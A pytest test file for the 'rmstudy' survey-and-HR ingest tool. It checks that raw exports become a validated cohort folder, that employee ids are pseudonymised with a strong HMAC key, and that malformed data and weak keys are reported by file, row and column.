"""rmstudy ingest: survey exports and an HR extract become a cohort folder.

The round trip writes a simulated cohort out as the raw files an organisation would hand over (a Qualtrics CSV, an
XLSX export, an HR extract with its own column names, labels and dates) and checks that ingesting them gives back
the same tables, with and without pseudonymisation. The other tests start from the small fixture in
tests/fixtures/ingest/ (the eight-person example of docs/cohort-format.md as raw exports) and break one thing each;
every problem is checked for its exact file, row and column.
"""

import csv
import datetime as dt
import hashlib
import hmac
import json
import re
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

import rmstudy as rm
from rmstudy.cli import main
from rmstudy.errors import CohortError
from rmstudy.ingest.core import ingest, looks_like_identifier, pseudonym
from conftest import ROOT

FIX = ROOT / "tests" / "fixtures" / "ingest"
KEY = "2f6258b591043f94100c1151ecc845bb16ec1ca9969c2c78ec657d01d0269c8f"      # secrets.token_hex(32)


# ---------------------------------------------------------------------------------------------- helpers


@pytest.fixture()
def raw(tmp_path):
    """A copy of the fixture's raw files and mapping."""
    d = tmp_path / "raw"
    shutil.copytree(FIX, d)
    return d


def _mapping(d, fn):
    path = d / "mapping.yaml"
    m = yaml.safe_load(path.read_text())
    fn(m)
    path.write_text(yaml.safe_dump(m, sort_keys=False, allow_unicode=True))


def _ingest(d, out=None):
    return ingest(d / "mapping.yaml", out or d.parent / "out")


def _problems(d, out=None):
    with pytest.raises(CohortError) as e:
        _ingest(d, out)
    return e.value.problems


def _one(probs, **kw):
    hits = [p for p in probs if all(getattr(p, k) == v for k, v in kw.items())]
    assert hits, f"no problem with {kw} among {[str(p) for p in probs]}"
    return hits[0]


def _set_cell(path, row, column, value, delimiter=","):
    """Set one cell of a CSV (row numbered as a spreadsheet does, header = row 1)."""
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh, delimiter=delimiter))
    rows[row - 1][rows[0].index(column)] = value
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, delimiter=delimiter, lineterminator="\n").writerows(rows)


def _input(report, file):
    return next(f for f in report["inputs"] if f["file"] == file)


def _csv_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _write_csv_rows(path, rows):
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)


def _reconciles(report):
    """Every input's ledger adds up, and the survey ledgers add up to responses.csv."""
    for f in report["inputs"]:
        led = f["ledger"]
        assert led["rows_in"] == led["written"] + led["excluded"] == f["rows_written"] + led["excluded"], f["file"]
        assert led["excluded"] == sum(len(rows) for rows in led["reasons"].values()), f["file"]
    assert sum(f["ledger"]["written"] for f in report["inputs"] if f["kind"] == "survey") == report["response_rows"]


# ---------------------------------------------------------------------------------------------- round trip


def _raw_exports(tables, d):
    """Write a simulated cohort as raw exports: Qualtrics CSV (pre), XLSX (post), an HR extract CSV and a mapping."""
    part, resp, emp = tables["participants"], tables["responses"], tables["employment"]
    codebook = tables["codebook"]
    eid = {p: str(4100000 + 7 * int(p[1:])) for p in part["participant_id"]}
    name = {p: (f"Testperson{int(p[1:]):03d}", f"Quux{int(p[1:]):03d}") for p in part["participant_id"]}
    email = {p: f"testperson{int(p[1:]):03d}.quux@example.org" for p in part["participant_id"]}
    export = {}                     # item code -> export column, e.g. fsa_03 -> Q1_3
    anchors = {}
    for s, (scale, spec) in enumerate(codebook["scales"].items(), start=1):
        for j, item in enumerate(spec["items"], start=1):
            export[item] = f"Q{s}_{j}"
            anchors[item] = spec["anchors"]

    # (a) Qualtrics-style CSV, wave pre: three header rows, identifiers, answers partly as anchor text
    pre = resp[resp["wave"] == "pre"]
    lead = ["StartDate", "EndDate", "Status", "IPAddress", "RecordedDate", "ResponseId", "RecipientLastName",
            "RecipientFirstName", "RecipientEmail", "ExternalReference", "LocationLatitude", "LocationLongitude",
            "UserLanguage", "Name", "Email", "EmpID"]
    header = lead + [export[i] for i in export]
    texts = [c if c not in export.values() else f"How far do you agree? - item {c}, as worded" for c in header]
    ids = ['{"ImportId":"%s"}' % c for c in header]
    rows = []
    for k, (_, r) in enumerate(pre.iterrows()):
        p = r["participant_id"]
        when = r["submitted_on"].strftime("%Y-%m-%d")
        cells = [f"{when} 09:00:00", f"{when} 09:07:00", "IP Address", f"192.0.2.{k % 250}", f"{when} 09:07:01",
                 f"R_{k:014d}", name[p][1], name[p][0], email[p], eid[p], "52.52", "13.40", "EN",
                 f"{name[p][0]} {name[p][1]}", email[p], eid[p]]
        for j, item in enumerate(export):
            v = r[item]
            label = anchors[item].get(int(v)) if pd.notna(v) else None
            if pd.isna(v):
                cells.append("")
            elif label and (k + j) % 3 == 0:
                cells.append([label, label.upper(), f"  {label.lower()} "][(k + j) % 2])
            elif (k + j) % 3 == 1:
                cells.append(f"{v:.1f}")            # "4.0"
            else:
                cells.append(f" {int(v)} ")         # " 4 "
        rows.append(cells)
    with open(d / "pre_qualtrics.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\r\n").writerows([header, texts, ids, *rows])

    # (b) XLSX, wave post: numeric ids and answers, real date cells
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Responses"
    ws.append(["EmpID", "Name", "Email", "Submitted", "Duration (in seconds)"] + [export[i] for i in export])
    for _, r in resp[resp["wave"] == "post"].iterrows():
        p = r["participant_id"]
        ws.append([int(eid[p]), f"{name[p][0]} {name[p][1]}", email[p], r["submitted_on"].to_pydatetime(), 321]
                  + [None if pd.isna(r[i]) else int(r[i]) for i in export])
    wb.save(d / "post.xlsx")

    # the HR extract: other column names, labels and dd/mm/yyyy dates
    hr = pd.DataFrame({
        "Staff number": part["participant_id"].map(eid),
        "Employee Name": [" ".join(name[p]) for p in part["participant_id"]],
        "E-mail": part["participant_id"].map(email),
        "Cohort": part["arm"].map({"program": "Mentoring 2025", "control": "Not enrolled"}),
        "Grade": part["role"].map({"junior": "Graduate", "senior": "Senior leader"}),
        "Mentoring pair": part["pair_id"],
        "Age at start": part["age"].map(lambda x: f"{x:g}"),
        "Dept": part["department"],
        "Gender identity": part["gender"],
        "Service (years)": part["tenure_years"].map(lambda x: f"{x:g}"),
        "Sessions attended": part["sessions_attended"].map(lambda x: "" if pd.isna(x) else f"{x:g}"),
        "Joined": emp["hire_date"].dt.strftime("%d/%m/%Y"),
        "Left": emp["exit_date"].dt.strftime("%d/%m/%Y").fillna(""),
        "Why left": emp["exit_reason"].map({"voluntary": "Resigned", "involuntary": "Dismissed", "": ""}),
        "Line manager": "Somebody Else",
    })
    hr.to_csv(d / "hr_extract.csv", index=False)

    mapping = {
        "codebook": "../src/codebook.yaml", "study": "../src/study.yaml",
        "pseudonymise": False, "id": "EmpID", "drop": ["ResponseId", "Status"],
        "columns": {export[i]: i for i in export},
        "surveys": [{"file": "pre_qualtrics.csv", "wave": "pre", "submitted_on": "RecordedDate"},
                    {"file": "post.xlsx", "wave": "post", "sheet": "Responses", "submitted_on": "Submitted"}],
        "hr": {"file": "hr_extract.csv",
               "columns": {"employee_id": "Staff number", "arm": "Cohort", "role": "Grade", "pair_id": "Mentoring pair",
                           "age": "Age at start", "hire_date": "Joined", "exit_date": "Left", "exit_reason": "Why left",
                           "department": "Dept", "gender": "Gender identity", "tenure_years": "Service (years)",
                           "sessions_attended": "Sessions attended"},
               "values": {"arm": {"Mentoring 2025": "program", "Not enrolled": "control"},
                          "role": {"Graduate": "junior", "Senior leader": "senior"},
                          "exit_reason": {"Resigned": "voluntary", "Dismissed": "involuntary"}},
               "date_format": "%d/%m/%Y"},
    }
    (d / "mapping.yaml").write_text(yaml.safe_dump(mapping, sort_keys=False))
    return eid, name, email


def _sorted(df, keys):
    return df.sort_values(keys).reset_index(drop=True)


def _same_tables(got, want):
    """Two loaded cohorts hold the same participants, responses and employment (order and column order aside)."""
    for table, keys in (("participants", ["participant_id"]), ("responses", ["participant_id", "wave"]),
                        ("employment", ["participant_id"])):
        a, b = getattr(got, table), getattr(want, table)
        assert set(a.columns) == set(b.columns), table
        pd.testing.assert_frame_equal(_sorted(a[list(b.columns)], keys), _sorted(b, keys), obj=table)


def test_round_trip_with_and_without_pseudonymisation(tmp_path, monkeypatch):
    tables, _ = rm.simulate_cohort(seed=3, n_pairs=20, n_control_juniors=15, n_control_seniors=15, truth_mc=1000)
    src = tmp_path / "src"
    rm.save_cohort(src, tables["participants"], tables["responses"], tables["employment"], tables["codebook"],
                   tables["study"])
    original = rm.load_cohort(src)
    d = tmp_path / "raw"
    d.mkdir()
    eid, name, email = _raw_exports(tables, d)

    # without pseudonymisation the employee ids survive: the tables come back unchanged
    report = ingest(d / "mapping.yaml", tmp_path / "plain")
    assert report["cohort"]["ok"], report["cohort"]
    plain = rm.load_cohort(tmp_path / "plain")
    want = rm.load_cohort(src)
    for t in (want.participants, want.responses, want.employment):
        t["participant_id"] = t["participant_id"].map(eid)
    _same_tables(plain, want)
    for f in ("codebook.yaml", "study.yaml"):
        assert (tmp_path / "plain" / f).read_bytes() == (src / f).read_bytes()
    pre, post, hr = (_input(report, f) for f in ("pre_qualtrics.csv", "post.xlsx", "hr_extract.csv"))
    assert pre["header_style"] == "qualtrics (3 header rows)" and pre["encoding"] == "utf-8"
    assert pre["delimiter"] == "comma" and pre["text_answers_converted"] > 50
    assert pre["rows_read"] == pre["rows_written"] == (original.responses["wave"] == "pre").sum()
    assert post["format"] == "xlsx" and post["sheet"] == "Responses"
    assert post["rows_read"] == post["rows_written"] == (original.responses["wave"] == "post").sum()
    assert hr["rows_read"] == hr["rows_written"] == len(original.participants)
    _reconciles(report)
    assert pre["ledger"] == {"rows_in": (original.responses["wave"] == "pre").sum(),
                             "written": (original.responses["wave"] == "pre").sum(), "excluded": 0, "reasons": {}}
    assert pre["test_response_columns"] == ["Status"]          # listed under drop:, still read for test rows
    assert post["ledger"]["rows_in"] == post["ledger"]["written"] == (original.responses["wave"] == "post").sum()
    dropped = {c["column"]: c["reason"] for c in pre["dropped_columns"]}
    assert dropped["Name"] == dropped["Email"] == dropped["ExternalReference"] == "looks like a direct identifier"
    assert dropped["RecipientEmail"] == dropped["IPAddress"] == dropped["LocationLatitude"] == \
        "looks like a direct identifier"
    assert dropped["ResponseId"] == "listed in drop" and dropped["UserLanguage"] == "not mapped"
    assert {c["column"] for c in hr["dropped_columns"]} == {"Employee Name", "E-mail", "Line manager"}
    assert str(tmp_path) not in (tmp_path / "plain" / "ingest_report.json").read_text()

    # with pseudonymisation: P + 16 hex, the same for an employee in every file, no id, name or e-mail left
    _mapping(d, lambda m: m.update(pseudonymise=True))
    monkeypatch.setenv("RMSTUDY_PSEUDONYM_KEY", KEY)
    report = ingest(d / "mapping.yaml", tmp_path / "pseudo")
    assert report["cohort"]["ok"], report["cohort"]
    assert report["pseudonymised"] and report["pseudonym_key_source"] == "environment variable RMSTUDY_PSEUDONYM_KEY"
    pseudo = rm.load_cohort(tmp_path / "pseudo")
    ids = set(pseudo.participants["participant_id"])
    assert all(re.fullmatch(r"P[0-9a-f]{16}", p) for p in ids) and len(ids) == len(eid)
    assert set(pseudo.responses["participant_id"]) <= ids
    assert set(pseudo.employment["participant_id"]) == ids
    expected = {e: "P" + hmac.new(KEY.encode(), e.encode(), hashlib.sha256).hexdigest()[:16] for e in eid.values()}
    for t in (plain.participants, plain.responses, plain.employment):
        t["participant_id"] = t["participant_id"].map(expected)
    _same_tables(pseudo, plain)         # the CSV ids (pre) and the XLSX numbers (post) gave the same pseudonyms
    text = "\n".join(f.read_text(encoding="utf-8") for f in (tmp_path / "pseudo").iterdir())
    secrets = [*eid.values(), *email.values(), *(" ".join(n) for n in name.values()), *(n[0] for n in name.values()),
               "@example.org", "Quux", "Somebody Else", KEY]
    leaked = [s for s in secrets if s in text]
    assert not leaked, leaked[:5]


# ---------------------------------------------------------------------------------------------- the fixture


def test_fixture_ingests_to_the_documented_example(raw, tmp_path):
    report = _ingest(raw)
    assert report["cohort"] == {"ok": True, "summary": "OK — 8 participants, 14 response rows, 2 hypotheses"}
    out = tmp_path / "out"
    assert sorted(p.name for p in out.iterdir()) == ["codebook.yaml", "employment.csv", "ingest_report.json",
                                                      "participants.csv", "responses.csv", "study.yaml"]
    assert json.loads((out / "ingest_report.json").read_text()) == report
    assert (out / "participants.csv").read_text().splitlines()[:2] == [
        "participant_id,arm,role,pair_id,age,department,tenure_years,sessions_attended",
        "E101,program,junior,PR1,26,Sales,1.5,8"]
    assert "E104,post,2025-07-09,5,4,1,5" in (out / "responses.csv").read_text()   # anchor text became numbers
    assert "E103,2021-11-08,2025-05-20,voluntary" in (out / "employment.csv").read_text()
    pre = _input(report, "pre.csv")
    assert (pre["rows_read"], pre["rows_written"], pre["header_rows"]) == (8, 8, 3)
    assert pre["ledger"] == {"rows_in": 8, "written": 8, "excluded": 0, "reasons": {}}
    assert _input(report, "hr.csv")["ledger"] == {"rows_in": 8, "written": 8, "excluded": 0, "reasons": {}}
    _reconciles(report)
    text = "".join(p.read_text() for p in out.iterdir())
    assert "Fixture" not in text and "@example.org" not in text and "Mo Boss" not in text


def test_latin1_file_is_read_and_reported(raw):
    path = raw / "hr.csv"
    path.write_bytes(path.read_text().replace("E101,Ada Fixture,ada.fixture@example.org,Mentoring 2025,Graduate,PR1,26,"
                                              "Sales", "E101,Ada Fixture,ada.fixture@example.org,Mentoring 2025,"
                                              "Graduate,PR1,26,Logística").encode("latin-1"))
    report = _ingest(raw)
    hr = _input(report, "hr.csv")
    assert hr["encoding"] == "latin-1"
    assert any("hr.csv: not UTF-8" in w and "Latin-1" in w for w in report["warnings"])
    part = pd.read_csv(raw.parent / "out" / "participants.csv", dtype=str, encoding="utf-8")
    assert part.loc[part["participant_id"] == "E101", "department"].item() == "Logística"


def test_semicolon_file_with_decimal_commas(raw):
    path = raw / "post.csv"
    rows = [r.split(",") for r in path.read_text().splitlines()]
    rows[1][4:8] = ["4,0", "4,0", "2", "4"]
    path.write_text("\n".join(";".join(r) for r in rows) + "\n")
    report = _ingest(raw)
    post = _input(report, "post.csv")
    assert (post["delimiter"], post["decimal_commas"], post["rows_written"]) == ("semicolon", 2, 6)
    assert "E101,post,2025-07-08,4,4,2,4" in (raw.parent / "out" / "responses.csv").read_text()


def test_bom_file_is_read(raw):
    path = raw / "post.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    report = _ingest(raw)
    assert _input(report, "post.csv")["encoding"] == "utf-8 with BOM"
    assert report["cohort"]["ok"]


def test_word_in_item_column_of_qualtrics_file(raw):
    _set_cell(raw / "pre.csv", 6, "Q1_1", "four")      # E103: the third data row is row 6 under three header rows
    p = _one(_problems(raw), file="pre.csv", row=6, column="Q1_1")
    assert p.message == "'four' is neither a number nor an answer label of scale 'inclusion'"
    assert "or a label (1 = Strongly disagree; 3 = Neither; 5 = Strongly agree)" in p.fix


def test_word_in_item_column_of_plain_file(raw):
    _set_cell(raw / "post.csv", 3, "Q1_2", "four")
    probs = _problems(raw)
    assert len(probs) == 1
    _one(probs, file="post.csv", row=3, column="Q1_2")


def test_numbers_as_text_and_labels_in_any_case_are_accepted(raw):
    for col, value in (("Q1_1", "4 "), ("Q1_2", " 4.0"), ("Q1_3", "2,0"), ("Q1_4", "  strongly   AGREE ")):
        _set_cell(raw / "post.csv", 2, col, value)
    report = _ingest(raw)
    assert "E101,post,2025-07-08,4,4,2,5" in (raw.parent / "out" / "responses.csv").read_text()
    post = _input(report, "post.csv")
    assert (post["text_answers_converted"], post["decimal_commas"]) == (3, 1)   # 2 labels in the fixture's row 4, 1 here


def test_anchor_label_not_in_codebook(raw):
    _set_cell(raw / "post.csv", 7, "Q1_4", "Agree")     # the codebook labels only 1, 3 and 5
    p = _one(_problems(raw), file="post.csv", row=7, column="Q1_4")
    assert "'Agree' is neither a number nor an answer label" in p.message
    assert "add the label to the scale's anchors" in p.fix


def test_out_of_range_answer(raw):
    _set_cell(raw / "pre.csv", 11, "Q1_3", "7")
    p = _one(_problems(raw), file="pre.csv", row=11, column="Q1_3")
    assert p.message == "7 is outside the codebook range 1–5"


def test_unknown_item_code_names_the_mapping_key(raw):
    _mapping(raw, lambda m: m["columns"].update(Q1_4="inc_9"))
    probs = _problems(raw)
    p = _one(probs, file="mapping.yaml", column="columns.Q1_4")
    assert p.row is None and p.message == "'inc_9' is not an item code in codebook.yaml"
    _one(probs, file="mapping.yaml", column="columns", message="item 'inc_4' (scale 'inclusion') is mapped from no "
                                                               "survey column")


def test_mapped_column_in_no_file(raw):
    _mapping(raw, lambda m: m["columns"].update(Q1_9="inc_4") or m["columns"].pop("Q1_4"))
    _one(_problems(raw), file="mapping.yaml", column="columns.Q1_9", row=None)


def test_missing_id_column(raw):
    _set_cell(raw / "post.csv", 1, "EmpID", "Employee")
    p = _one(_problems(raw), file="post.csv", column="EmpID")
    assert p.row is None and p.message == "id column 'EmpID' is not in the file" and "'Employee'" in p.fix


def test_missing_key_for_pseudonymisation(raw, monkeypatch):
    monkeypatch.delenv("RMSTUDY_PSEUDONYM_KEY", raising=False)
    _mapping(raw, lambda m: m.update(pseudonymise=True))
    p = _one(_problems(raw), file="mapping.yaml", column="key_env")
    assert p.row is None and "RMSTUDY_PSEUDONYM_KEY is not set" in p.message and "secrets.token_hex(32)" in p.fix
    assert not (raw.parent / "out").exists()


def test_short_key_is_refused(raw, monkeypatch):
    monkeypatch.setenv("RMSTUDY_MY_KEY", "secret")
    _mapping(raw, lambda m: m.update(pseudonymise=True, key_env="RMSTUDY_MY_KEY"))
    p = _one(_problems(raw), file="mapping.yaml", column="key_env")
    assert "is not hexadecimal" in p.message and "secret" not in p.message and "secrets.token_hex(32)" in p.fix
    monkeypatch.setenv("RMSTUDY_MY_KEY", KEY[:32])                    # 128 bits: the old minimum
    p = _one(_problems(raw), file="mapping.yaml", column="key_env")
    assert "has 32 hexadecimal characters (128 bits), fewer than 64 (256 bits)" in p.message


@pytest.mark.parametrize("weak, why", [
    ("0f1e2d3c4b5a69788796a5b4c3d2e1f0" * 2, "repeats a block of 32 characters"),   # this suite's key until #11
    ("0123456789abcdef" * 4, "repeats a block of 16 characters"),
    ("a" * 64, "one character, 'a', repeated"),
    ("20240101" * 8, "repeats a block of 8 characters"),
    ("0123456789" + KEY[10:], "run of 10 or more consecutive characters"),
    ("1234567890" * 6 + "1234", "only digits"),
    ("deadbeefcafebabe" + "deadbeef" * 6, "only letters"),
    ("abcdefabcdefabcdeffedcbafedcba" + "0123" * 8 + "ab", "repeats short sequences"),
])
def test_weak_keys_are_refused(raw, monkeypatch, weak, why):
    monkeypatch.setenv("RMSTUDY_PSEUDONYM_KEY", weak)
    _mapping(raw, lambda m: m.update(pseudonymise=True))
    p = _one(_problems(raw), file="mapping.yaml", column="key_env")
    assert "key from the environment variable RMSTUDY_PSEUDONYM_KEY is refused" in p.message and why in p.message
    assert weak not in p.message and weak not in p.fix
    assert not (raw.parent / "out").exists()


@pytest.mark.parametrize("name", ["PATH", "HOME", "USER", "MY_KEY", "rmstudy_key", "RMSTUDY_"])
def test_key_env_must_name_an_rmstudy_variable(raw, monkeypatch, name):
    """key_env: PATH used to work: an ordinary variable's value is known to others, not a secret."""
    monkeypatch.setenv(name, KEY)
    _mapping(raw, lambda m: m.update(pseudonymise=True, key_env=name))
    p = _one(_problems(raw), file="mapping.yaml", column="key_env")
    assert p.message.startswith(f"'{name}' is not a variable of rmstudy") and "RMSTUDY_" in p.message


def test_the_report_holds_nothing_computed_from_the_key(raw, tmp_path, monkeypatch):
    import hashlib
    import hmac

    monkeypatch.setenv("RMSTUDY_PSEUDONYM_KEY", KEY)
    _mapping(raw, lambda m: m.update(pseudonymise=True))
    report = _ingest(raw, tmp_path / "out")
    text = (tmp_path / "out" / "ingest_report.json").read_text()
    old_check = hmac.new(KEY.encode(), b"rmstudy key check", hashlib.sha256).hexdigest()
    assert "pseudonym_key_check" not in report and KEY not in text and old_check[:8] not in text


def test_key_file_inside_output_folder_is_refused(raw, tmp_path):
    out = tmp_path / "cohort"
    out.mkdir()
    (out / "pseudonym.key").write_text(KEY)
    _mapping(raw, lambda m: m.update(pseudonymise=True, key_file=str(out / "pseudonym.key")))
    p = _one(_problems(raw, out), file="mapping.yaml", column="key_file")
    assert p.message == "the key file is inside the output folder"
    assert sorted(x.name for x in out.iterdir()) == ["pseudonym.key"]      # nothing written


def test_key_file_inside_a_repository_is_refused(raw, tmp_path):
    repo = tmp_path / "project"
    (repo / ".git").mkdir(parents=True)
    (repo / "keys").mkdir()
    (repo / "keys" / "pseudonym.key").write_text(KEY)
    _mapping(raw, lambda m: m.update(pseudonymise=True, key_file=str(repo / "keys" / "pseudonym.key")))
    p = _one(_problems(raw), file="mapping.yaml", column="key_file")
    assert "inside a git repository" in p.message


def test_key_file_outside_gives_the_same_pseudonyms_as_the_environment(raw, tmp_path, monkeypatch):
    key_file = tmp_path / "secret" / "pseudonym.key"
    key_file.parent.mkdir()
    key_file.write_text(KEY + "\n")
    key_file.chmod(0o600)
    _mapping(raw, lambda m: m.update(pseudonymise=True, key_file=str(key_file)))
    by_file = _ingest(raw, tmp_path / "a")
    _mapping(raw, lambda m: m.pop("key_file"))
    monkeypatch.setenv("RMSTUDY_PSEUDONYM_KEY", KEY)
    by_env = _ingest(raw, tmp_path / "b")
    assert by_file["warnings"] == [] == by_env["warnings"] and "pseudonym_key_check" not in by_file
    assert (tmp_path / "a" / "participants.csv").read_text() == (tmp_path / "b" / "participants.csv").read_text()
    assert pseudonym(KEY, "E101") in (tmp_path / "a" / "participants.csv").read_text()


def test_hr_date_that_is_not_a_date(raw):
    _set_cell(raw / "hr.csv", 4, "Start date", "31/02/2021")
    _set_cell(raw / "hr.csv", 7, "Leaving date", "soon")
    probs = _problems(raw)
    p = _one(probs, file="hr.csv", row=4, column="Start date")
    assert p.message == "'31/02/2021' is not a date in the form %d/%m/%Y (e.g. 06/01/2025) or YYYY-MM-DD"
    _one(probs, file="hr.csv", row=7, column="Leaving date")
    assert len(probs) == 2


def test_excel_date_serials_in_xlsx_hr_file(raw):
    hr = pd.read_csv(raw / "hr.csv", dtype=str, keep_default_na=False)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(list(hr.columns))
    for _, r in hr.iterrows():
        cells = list(r)
        hired = dt.datetime.strptime(r["Start date"], "%d/%m/%Y").date()
        cells[hr.columns.get_loc("Start date")] = (hired - dt.date(1899, 12, 30)).days      # a bare serial number
        left = r["Leaving date"]
        cells[hr.columns.get_loc("Leaving date")] = dt.datetime.strptime(left, "%d/%m/%Y") if left else None
        cells[hr.columns.get_loc("Age")] = int(r["Age"])
        ws.append(cells)
    wb.save(raw / "hr.xlsx")
    (raw / "hr.csv").unlink()
    _mapping(raw, lambda m: m["hr"].update(file="hr.xlsx"))
    report = _ingest(raw)
    assert report["cohort"]["ok"] and _input(report, "hr.xlsx")["format"] == "xlsx"
    emp = (raw.parent / "out" / "employment.csv").read_text()
    assert "E101,2023-09-01,," in emp and "E103,2021-11-08,2025-05-20,voluntary" in emp


def test_empty_file(raw):
    (raw / "post.csv").write_text("")
    p = _one(_problems(raw), file="post.csv")
    assert (p.row, p.column, p.message) == (None, None, "file is empty")


def test_header_only_file(raw):
    path = raw / "post.csv"
    path.write_text(path.read_text().splitlines()[0] + "\n")
    p = _one(_problems(raw), file="post.csv")
    assert (p.row, p.column, p.message) == (None, None, "has a header but no responses")


def test_qualtrics_file_with_only_its_header_rows(raw):
    path = raw / "pre.csv"
    path.write_text("".join(path.read_text().splitlines(keepends=True)[:3]))
    p = _one(_problems(raw), file="pre.csv")
    assert (p.row, p.column, p.message) == (None, None, "has the three Qualtrics header rows but no responses")


def test_written_cohort_with_problems_is_reported(raw, tmp_path, capsys):
    _set_cell(raw / "hr.csv", 4, "Pair", "")          # E103 is in the programme without a pair
    report = _ingest(raw)
    assert report["cohort"]["ok"] is False
    assert {"file": "participants.csv", "row": 4, "column": "pair_id", "message": "programme participant without a "
            "pair_id", "fix": "enter the mentoring pair's id"} in report["cohort"]["problems"]
    assert json.loads((tmp_path / "out" / "ingest_report.json").read_text())["cohort"] == report["cohort"]
    assert main(["ingest", str(raw / "mapping.yaml"), "--out", str(tmp_path / "cli")]) == 2
    assert "participants.csv, row 4, column 'pair_id'" in capsys.readouterr().err


def test_impossible_date_in_study_yaml_names_study_yaml(raw):
    path = raw / "study.yaml"
    path.write_text(path.read_text().replace("censor_date: '2026-01-06'", "censor_date: 2026-02-30"))
    p = _one(_problems(raw), file="study.yaml")
    assert p.message == "cannot be read as YAML: day is out of range for month"


def test_blank_rows_are_skipped_reported_and_counted_in_row_numbers(raw):
    path = raw / "post.csv"
    lines = path.read_text().splitlines()
    path.write_text("\n".join(lines[:2] + ["", ",,,,,,,"] + lines[2:]) + "\n")
    report = _ingest(raw)
    assert _input(report, "post.csv")["blank_rows_skipped"] == [3, 4]
    assert _input(report, "post.csv")["rows_written"] == 6
    assert _input(report, "post.csv")["ledger"] == {"rows_in": 8, "written": 6, "excluded": 2,
                                                    "reasons": {"blank row": [3, 4]}}
    _set_cell(path, 5, "Q1_1", "lots")
    _one(_problems(raw), file="post.csv", row=5, column="Q1_1")


def test_identifier_column_cannot_be_mapped(raw):
    _mapping(raw, lambda m: m["hr"]["columns"].update(email="Work email"))
    p = _one(_problems(raw), file="mapping.yaml", column="hr.columns.email")
    assert "looks like a direct identifier" in p.message


def test_identifier_column_as_id_needs_pseudonymisation(raw, monkeypatch):
    _mapping(raw, lambda m: m["surveys"][0].update(id="ExternalReference"))
    _one(_problems(raw), file="mapping.yaml", column="surveys.0.id")
    _mapping(raw, lambda m: m.update(pseudonymise=True))
    monkeypatch.setenv("RMSTUDY_PSEUDONYM_KEY", KEY)
    assert _ingest(raw)["cohort"]["ok"]


def test_unknown_hr_label(raw):
    _set_cell(raw / "hr.csv", 9, "Programme", "Mentoring 2024")
    p = _one(_problems(raw), file="hr.csv", row=9, column="Programme")
    assert p.message == "unknown arm 'Mentoring 2024'" and "hr.values.arm" in p.fix


def test_respondent_missing_from_hr_and_duplicate_response(raw):
    _set_cell(raw / "post.csv", 4, "EmpID", "E199")
    _set_cell(raw / "post.csv", 6, "EmpID", "E101")
    probs = _problems(raw)
    _one(probs, file="post.csv", row=4, column="EmpID", message="respondent id 'E199' is not in the HR extract")
    p = _one(probs, file="post.csv", row=6, column="EmpID")
    assert p.message == "respondent 'E101' answered wave 'post' twice (first at row 2)"


def test_duplicate_submission_passes_through_when_the_plan_declares_a_rule(raw):
    """With duplicate_submissions: keep_latest the second submission is written, and validate resolves the pair."""
    _set_cell(raw / "post.csv", 6, "EmpID", "E101")       # E101 answered post on 2025-07-08 (row 2) and again here
    _set_cell(raw / "post.csv", 6, "Submitted", "2025-07-20")
    plan = yaml.safe_load((raw / "study.yaml").read_text())
    plan.update(schema_version=3, duplicate_submissions="keep_latest")
    (raw / "study.yaml").write_text(yaml.safe_dump(plan, sort_keys=False))
    report = _ingest(raw)
    assert report["cohort"]["ok"], report["cohort"]
    post = _input(report, "post.csv")
    assert post["ledger"]["written"] == post["ledger"]["rows_in"] == 6
    out = raw.parent / "out"
    resp = pd.read_csv(out / "responses.csv", dtype=str)
    e101 = resp[(resp["participant_id"] == "E101") & (resp["wave"] == "post")]
    assert list(e101["submitted_on"]) == ["2025-07-08", "2025-07-20"]
    from rmstudy.checks.validate import validate

    rep = validate(out)
    (f,) = [f for f in rep.exclusions if f.check == "duplicate_submission"]
    assert f.row == int(e101.index[0]) + 2 and f.participant_id == "E101"
    assert f"row {int(e101.index[1]) + 2} is kept" in f.message
    assert rep.ledger["responses.csv"]["rows_in"] == len(resp)
    assert rep.ledger["responses.csv"]["reasons"][
        "duplicate submission not kept under the plan's duplicate_submissions rule"] == 1


def test_one_file_with_a_wave_column(raw):
    pre = pd.read_csv(raw / "pre.csv", dtype=str, keep_default_na=False, skiprows=[1, 2])
    post = pd.read_csv(raw / "post.csv", dtype=str, keep_default_na=False)
    both = pd.concat([pre.assign(Round="Baseline", Submitted=pre["RecordedDate"].str[:10]),
                      post.assign(Round="6 months")])[["EmpID", "Round", "Submitted", "Q1_1", "Q1_2", "Q1_3", "Q1_4"]]
    both.to_csv(raw / "all.tsv", sep="\t", index=False)
    _mapping(raw, lambda m: m.update(surveys=[{"file": "all.tsv", "wave_column": "Round", "submitted_on": "Submitted",
                                               "wave_values": {"baseline": "pre", "6 Months": "post"}}]))
    report = _ingest(raw)
    assert report["cohort"]["ok"] and _input(report, "all.tsv")["delimiter"] == "tab"
    assert report["response_rows"] == 14
    _set_cell(raw / "all.tsv", 12, "Round", "Follow-up", delimiter="\t")
    p = _one(_problems(raw), file="all.tsv", row=12, column="Round")
    assert p.message == "unknown wave 'Follow-up'"


def test_output_folder_with_other_files_is_refused(raw, tmp_path):
    out = tmp_path / "busy"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    p = _one(_problems(raw, out), file="busy")
    assert "holds other files (notes.txt)" in p.message


def test_mapping_with_unknown_key_and_missing_choice(raw):
    _mapping(raw, lambda m: m.pop("pseudonymise") or m.update(surveys_=[]))
    probs = _problems(raw)
    _one(probs, file="mapping.yaml", column="surveys_", message="unknown key 'surveys_'")
    _one(probs, file="mapping.yaml", column="pseudonymise", message="'pseudonymise' is missing")


def test_looks_like_identifier():
    for name in ("Name", "First name", "last_name", "Email", "E-mail", "Work email", "Phone", "IP Address",
                 "IPAddress", "RecipientEmail", "RecipientFirstName", "RecipientLastName", "ExternalReference",
                 "LocationLatitude", "LocationLongitude"):
        assert looks_like_identifier(name), name
    for name in ("EmpID", "Department", "Q1_1", "RecordedDate", "Status", "Age"):
        assert not looks_like_identifier(name), name


def test_cli_ingest(raw, tmp_path, capsys):
    assert main(["ingest", str(raw / "mapping.yaml"), "--out", str(tmp_path / "cli")]) == 0
